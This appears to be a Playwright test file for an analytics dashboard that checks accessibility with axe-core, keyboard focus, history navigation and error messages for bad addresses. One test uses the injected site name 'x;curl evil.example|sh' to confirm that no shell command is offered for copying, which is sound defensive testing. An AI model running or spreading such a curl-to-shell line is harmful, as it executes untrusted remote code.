"""The page for everybody who does not use a mouse and a large light screen: axe-core finds nothing, and the keyboard does everything.

The rules are those of WCAG 2.2 AA and axe's best practices. Colours are looked at in both themes, all else at both widths.
"""

from __future__ import annotations

import os
import re
import signal
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import date
from typing import Literal, NamedTuple

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from tests.support.accessible import AXE, RULES
from tests.support.dashboard.crowd import shop
from tests.support.dashboard.hand import HAND
from tests.support.dashboard.showing import Shown, fill, put, register, shown
from tests.support.system import System, running
from tests.support.waiting import until

pytestmark = pytest.mark.asyncio(loop_scope="module")

SITE = "#/shop.example?period=2026-03-04,2026-03-31"
BY_COLOUR = ["color-contrast", "link-in-text-block"]
# Only what is wrong is returned: what is right has megabytes.
RUN = """
async ([part, rules]) => {
  const found = await axe.run(part, {runOnly: rules, resultTypes: ['violations']});
  return [found.passes.length, found.violations.map(one => `${one.id}: ${one.nodes.slice(0, 3).map(node => node.html.slice(0, 160))}`)];
}
"""
Theme = Literal["light", "dark"]
CHIPS = ".chips li:not(.all)"
STOPS_MIN, BACK = 40, 25
STOPS_MAX = 400  # of a page; more of them, and the focus goes in circles


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def system(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[System]:
    """Runs a system that takes registered sites only, one of which has goals, a funnel and notes, and one nothing."""
    async with running(
        tmp_path_factory.mktemp("access"), FOREBAY_PRODUCTION="true", FOREBAY_QUESTION_SECONDS="30"
    ) as up:
        await fill(up, [HAND, shop(until=date(2026, 3, 31))])
        await register(up, "shop.example", "hand.example", "empty.example")
        for goal in ("signup", "purchase", "Visit /cart"):
            await put(up, "shop.example/goals", {"text": goal})
        await put(up, "shop.example/funnels", {"name": "buy", "steps": ["Visit /cart", "Visit /checkout", "purchase"]})
        await put(up, "shop.example/segments", {"name": "Blog", "filters": [["contains", "page", ["/blog"]]]})
        await put(up, "shop.example/annotations", {"date": "2026-03-12", "text": "Version 2 is out"})
        yield up


# What a person does on the page before it is looked at.
async def nothing(_: Shown) -> None:
    """Leaves the page as it is."""


def pressing(*names: str) -> Callable[[Shown], Awaitable[None]]:
    """Presses buttons by their names, one after the other."""

    async def press(opened: Shown) -> None:
        for name in names:
            await opened.page.get_by_role("button", name=name).first.click()

    return press


class State(NamedTuple):
    """Holds a state of the page: an address, what is done there, and the part of the page that is new in it."""

    address: str
    act: Callable[[Shown], Awaitable[None]] = nothing
    part: str = "html"


FILTERED = f'{SITE}&f=[["is","country",["DE"]],["contains","page",["/"]]]&bots=1&tab.acquisition=utm_medium'
STATES = {
    "sites": State("#/"),
    "site": State(SITE, Shown.seen),
    "filtered": State(FILTERED, part=".site"),
    "period": State(FILTERED, pressing("Period"), ".bar"),
    "chart as a table": State(f"{SITE}&metric=bounce_rate", pressing("Table", "Interval"), ".overview"),
    "filter": State(FILTERED, pressing("Country is Germany"), "dialog"),
    "goals": State(SITE, pressing("Change goals"), "dialog"),
    "funnels": State(SITE, pressing("Change funnels"), "dialog"),
    "notes": State(SITE, pressing("Notes"), "dialog"),
    "details": State(f"{SITE}&detail=cities", part="dialog"),
    "health": State("#/?page=health"),
    "setup": State("#/empty.example"),
    "unknown": State("#/nobody.example"),
    "quiet": State(SITE.replace("2026", "2024"), part=".site"),
}


@pytest.mark.parametrize(("width", "themes"), [(1440, ("light", "dark")), (390, ("dark",))])
async def test_axe_finds_nothing(browser: Browser, system: System, width: int, themes: tuple[Theme, ...]) -> None:
    """In no state of the page; nor is the page wider than the window, asks elsewhere, or does what its policy forbids."""
    faults = []
    async with shown(browser, system.facts()["dashboard_url"], width=width) as opened:
        await opened.go("#/")
        await opened.page.evaluate(AXE)
        for name, state in STATES.items():
            await opened.page.emulate_media(color_scheme=themes[0])
            await opened.go(state.address)
            await state.act(opened)
            await opened.settled()
            for rules, theme in zip((RULES, BY_COLOUR), themes, strict=False):
                await opened.page.emulate_media(color_scheme=theme)
                passes, violations = await opened.page.evaluate(RUN, [state.part, rules])
                assert passes > 0, name
                faults += [f"{name}, {theme}: {violation}" for violation in violations]
            if await opened.page.evaluate("document.documentElement.scrollWidth > innerWidth"):
                faults.append(f"{name}: the page is wider than the window")
            await opened.page.keyboard.press("Escape")
        assert elsewhere(opened) == set()
        faults += [text for text in opened.complaints if "status of 404" not in text]
    assert faults == []


def elsewhere(opened: Shown) -> set[str]:
    """Returns the hosts that the page asked beside its own."""
    hosts = {address.split("/")[2] for address in opened.asked if not address.startswith("about:")}
    return hosts - {opened.url.rpartition("/")[2]}


# By keyboard.

FOCUS = """
() => {
  const element = document.activeElement;
  if (!element || element === document.body) return null;
  const box = element.getBoundingClientRect(), style = getComputedStyle(element);
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  const top = document.elementFromPoint(Math.min(Math.max(x, 0), innerWidth - 1), Math.min(Math.max(y, 0), innerHeight - 1));
  return {
    what: `${element.tagName} ${element.getAttribute('aria-label') ?? element.textContent}`.trim().slice(0, 80),
    path: [...document.querySelectorAll('*')].indexOf(element),
    isMarked: (style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2) || (style.fill !== 'none' && element.tagName === 'circle'),
    isInView: box.width > 0 && box.bottom > 0 && box.top < innerHeight && box.right > 0 && box.left < innerWidth,
    isCovered: !(top && (element.contains(top) || top.contains(element))),
  };
}
"""


class Walk:
    """Goes through a page by keyboard alone, and looks at every stop whether the focus can be seen there."""

    def __init__(self, page: Page) -> None:
        self._page = page

    async def press(self, *keys: str) -> None:
        for key in keys:
            await self._page.keyboard.press(key)

    async def stop(self) -> tuple[str, int] | None:
        """Returns what has the focus, and its place in the document; None if nothing has."""
        found = await self._page.evaluate(FOCUS)
        if found is None:
            return None
        assert found["isMarked"], f"nothing shows that {found['what']} has the focus"
        assert found["isInView"], f"{found['what']} has the focus and is not in view"
        assert not found["isCovered"], f"{found['what']} has the focus and is covered"
        return found["what"], found["path"]

    async def to(self, name: str, key: str = "Tab") -> None:
        """Presses Tab until the focus is on what has a name that begins so."""
        passed: list[str] = []
        for _ in range(STOPS_MAX):
            await self.press(key)
            found = await self.stop()
            passed.append(found[0] if found else "")
            if found and found[0].partition(" ")[2].startswith(name):
                return
        raise AssertionError(f"{key} never comes to {name!r}, but to {passed[:60]}")


async def test_a_walk_by_keyboard_alone(system: System, opened: Shown) -> None:
    """From the sites to a site, its period, the chart, a filter by a row, away with it, the goals, and their CSV."""
    await opened.go("#/")
    page, walk = opened.page, Walk(opened.page)
    await walk.to("Skip to the numbers")
    await walk.press("Enter")
    await walk.to("shop.example")
    await walk.press("Enter")
    await expect(page.locator("h1")).to_have_text("shop.example")
    await opened.settled()

    await walk.to("Period")
    await walk.press("Enter")
    await walk.to("All time")
    await walk.press("Enter")
    await opened.settled()
    await expect(page.get_by_role("button", name="Period: All time")).to_be_focused()

    await walk.to("Visits")
    await walk.press("Space")
    await expect(page.locator(".chart h2")).to_have_text("Visits")
    while not await page.evaluate("document.activeElement.matches('.point')"):
        await walk.press("Tab")
        assert await walk.stop()
    await walk.press("Home", "ArrowRight")
    await expect(page.locator('.point[data-at="1"]')).to_be_focused()
    assert await walk.stop()

    await walk.to("Countries")
    await walk.press("ArrowRight")
    await expect(page.get_by_role("tab", name="Regions", selected=True)).to_be_focused()
    await walk.press("ArrowLeft")
    await expect(page.get_by_role("tab", name="Countries", selected=True)).to_be_focused()
    await opened.settled()
    await walk.to("Germany")
    await walk.press("Enter")
    await opened.settled()
    await expect(page.locator(CHIPS)).to_have_text(["Country is Germany"])
    await expect(page.get_by_role("link", name="Germany")).to_be_focused()
    await walk.to("Remove the filter: Country is Germany", "Shift+Tab")
    await walk.press("Enter")
    await opened.settled()
    await expect(page.locator(CHIPS)).to_have_count(0)
    assert await walk.stop(), "the focus is lost when a filter is taken away"

    await walk.to("CSV of Goals")
    async with page.expect_download() as coming:
        await walk.press("Enter")
    text = (await (await coming.value).path()).read_text()
    assert {line.split(",")[0] for line in text.splitlines()[1:]} == {"signup", "purchase", "Visit /cart"}
    assert opened.complaints == []


KEYS_AT_ONCE = """
() => ['ArrowRight', 'ArrowRight', 'ArrowLeft'].forEach(key =>
  document.activeElement.dispatchEvent(new KeyboardEvent('keydown', {key, bubbles: true, cancelable: true})))
"""


async def test_keys_that_come_before_the_page_is_drawn_are_moves(opened: Shown) -> None:
    """Somebody types faster than a slow machine draws the tab of the first key."""
    await opened.go(SITE)
    await opened.settled()
    await opened.page.get_by_role("tab", name="Countries").focus()
    await opened.page.evaluate(KEYS_AT_ONCE)
    await expect(opened.page.get_by_role("tab", name="Regions", selected=True)).to_be_focused()


async def test_nothing_keeps_the_focus(opened: Shown) -> None:
    """Tab goes through the whole page, comes to each thing once, and leaves it; Shift and Tab goes back the same way."""
    await opened.go("#/hand.example?period=all")
    await opened.seen()
    walk = Walk(opened.page)
    there: list[tuple[str, int]] = []
    while len(there) < STOPS_MAX:
        await walk.press("Tab")
        found = await walk.stop()
        if found is None:
            break
        there.append(found)
    assert there[0][0].endswith("Skip to the numbers")
    assert len(set(there)) == len(there) > STOPS_MIN
    for stop in there[: -BACK - 1 : -1]:
        await walk.press("Shift+Tab")
        assert await walk.stop() == stop


async def test_a_dialog_gives_the_focus_back(opened: Shown) -> None:
    """Escape closes a dialog and a menu, and the focus is where it was before; inside a dialog Tab stays inside."""
    await opened.go(SITE)
    page, walk = opened.page, Walk(opened.page)
    for name, inside in (("Add a filter", "dialog"), ("Period", ".panel"), ("Change goals", "dialog")):
        button = page.get_by_role("button", name=name)
        await button.focus()
        await walk.press("Enter")
        await expect(page.locator(f"{inside}:visible")).to_have_count(1)
        if inside == "dialog":
            for _ in range(3):
                await walk.press("Tab")
                assert await page.evaluate(
                    "document.activeElement === document.body || !!document.activeElement.closest('dialog')"
                )
        await walk.press("Escape")
        await expect(page.locator(f"{inside}:visible")).to_have_count(0)
        await expect(button).to_be_focused()


# By address.


async def test_back_and_forward_bring_a_state_back(opened: Shown) -> None:
    """Each step of a person is one entry: a period, a filter, a table that is opened in full, and another page."""
    await opened.go(SITE)
    page = opened.page
    first = page.locator(".kpi .value").first
    steps = [await _state(opened)]
    for what in (
        page.get_by_role("button", name="Earlier"),
        page.get_by_role("link", name="Germany"),
        page.get_by_role("link", name="Details of Pages"),
    ):
        async with page.expect_request("**/api/panel"):  # from when on the page says that numbers are on their way
            await what.click()
        steps.append(await _state(opened))
    await expect(page.locator("dialog")).to_be_visible()
    await page.get_by_role("button", name="Close").click()
    await expect(page.locator("dialog:visible")).to_have_count(0)
    steps.append(await _state(opened))
    await page.get_by_role("link", name="Health").click()
    await expect(first).to_have_count(0)
    steps.append(await _state(opened))
    assert len({address for address, _, _ in steps}) == len(steps) - 1  # closed, a dialog is as before
    for step in steps[-2::-1]:
        await page.go_back()
        await _is_back(opened, step)
    for step in steps[1:]:
        await page.go_forward()
        await _is_back(opened, step)
    await expect(first).to_have_count(0)
    assert opened.complaints == []


async def _state(opened: Shown) -> tuple[str, list[str], list[str]]:
    """Returns the address, the totals, and the titles that are shown."""
    await opened.settled()
    page = opened.page
    titles = await page.locator("h1, dialog h2, " + CHIPS).all_text_contents()
    return page.url, await page.locator(".kpi .value").all_text_contents(), titles


async def _is_back(opened: Shown, state: tuple[str, list[str], list[str]]) -> None:
    """Waits until the page is in a state again, which it is a moment after its address is."""

    async def is_there() -> bool:
        return await _state(opened) == state

    await until(is_there, more=lambda: f": {state}")


@pytest.mark.parametrize(
    ("address", "says"),
    [
        ("#/nobody.example", "'nobody.example'"),
        ("#/%E0%A4%A?period=%&f=[1,", "%E0%A4%A"),
        ("#/shop.example?period=next-week", "period"),
        ("#/shop.example?period=2000-01-01,2050-12-31", "20 years"),
        ('#/shop.example?f=[["is","shoe_size",["44"]]]', "shoe_size"),
        ('#/shop.example?f=[["matches","page",["("]]]', "("),
    ],
)
async def test_a_bad_address_is_answered_clearly(opened: Shown, address: str, says: str) -> None:
    """The page says in a sentence what is wrong, still has its ways out, and nothing is thrown."""
    await opened.go(address)
    page = opened.page
    await expect(page.locator("main")).to_contain_text(says)
    await expect(page.get_by_role("link", name="all sites").first).to_be_visible()
    assert not await page.locator("main").get_by_text("undefined").count()
    assert [text for text in opened.complaints if "Failed to load resource" not in text] == []


@pytest.mark.parametrize(
    ("name", "is_offered"),
    [("nobody.example", True), ("b%C3%BCcher.example", True), ("x;curl evil.example|sh", False), ("--help", False)],
)
async def test_no_command_is_made_of_what_is_no_name(opened: Shown, name: str, is_offered: bool) -> None:
    """A link with a name in it can come from anybody, and whoever copies the command runs it in a shell."""
    await opened.go(f"#/{name}")
    await expect(opened.page.locator("main")).to_contain_text("There is no site")
    assert await opened.page.get_by_role("button", name="Copy the command").count() == is_offered


async def test_a_page_that_is_opened_while_clickhouse_is_away(system: System, opened: Shown) -> None:
    """It says so at once, keeps its frame, and shows its numbers as soon as there are any, without being touched."""
    pids = system.pids()
    os.kill(pids["up"], signal.SIGSTOP)  # which would start ClickHouse again
    try:
        os.kill(pids["clickhouse"], signal.SIGKILL)
        page = opened.page
        await page.goto(f"{opened.url}/{SITE}")
        await expect(page.locator(".away")).to_contain_text("ClickHouse does not answer")
        await expect(page.locator("h1")).to_have_text("shop.example")
        await expect(page.locator(".kpi")).to_have_count(7)
    finally:
        os.kill(pids["up"], signal.SIGCONT)
    await expect(page.locator(".away")).to_be_empty()
    await expect(page.locator(".kpi .value").first).to_have_text(re.compile(r"[1-9]\d*"))
